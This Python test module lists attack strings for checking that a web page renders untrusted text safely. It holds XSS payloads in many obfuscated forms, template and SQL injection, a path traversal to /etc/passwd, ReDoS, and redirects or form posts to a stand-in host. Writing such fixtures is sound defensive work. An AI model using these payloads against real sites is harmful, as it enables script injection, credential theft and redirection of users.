"""Texts that would do harm if a page took them for anything but text: each sets `window.ran` where it runs."""

from __future__ import annotations

from itertools import product

_DO = "window.ran=1"
_OUT = ("", '"', "'", "`", "-->", "</script>", "</style>", "</title>", "]]>", "</svg>")
_TAGS = (
    f"<script>{_DO}</script>",
    f"<img src=x onerror={_DO}>",
    f"<svg onload={_DO}>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f"<details open ontoggle={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<a href='javascript:{_DO}'>here</a>",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "javascript&colon;",
    "\x01javascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "file:///", "blob:",
    "view-source:", "//evil.example/",
)  # fmt: skip
_ODD = (
    "\"'`&amp;\\u0041", "one\u2028two\u2029three\nfour", "abc\u202edcba\u200f\u2066x", "👩‍🔬 𝒟-net 🇪🇺", "x" * 10_000,
    "__proto__", "constructor", "hasOwnProperty", "<!--<script>", "<!DOCTYPE html>", "%%script%%", "%%data%%",
    "${window.ran=1}", "{{constructor.constructor('window.ran=1')()}}", "\\u003cscript\\u003ewindow.ran=1",
    "&lt;script&gt;", "＜script＞window.ran=1", "+ADw-script+AD4-window.ran=1", "\ufeff<script>window.ran=1</script>",
    "\x00\x08\x1b[31m", "'; DROP TABLE papers; --", "../../../etc/passwd", "CON", "a" * 300 + "<b>", "᠎ㅤ\u200b\u200d",
    "Z̸̧̢͎͇͉̈́a̵̛͓l̶̙̈g̷̢̛o̶͚", "ไทยภาษา", "אבגדהו‎abc", "((((((((((a+)+)+)+)+$",
    "<math><mtext><script>window.ran=1</script>", "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/'>", "url(https://evil.example/x)",
    "@import 'https://evil.example/x';", "<form action='https://evil.example/'><button>",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *(f"{out}{tag}" for out, tag in product(_OUT, _TAGS)),
    *(f"{scheme}{_DO}" for scheme in _SCHEMES),
    *_ODD,
)
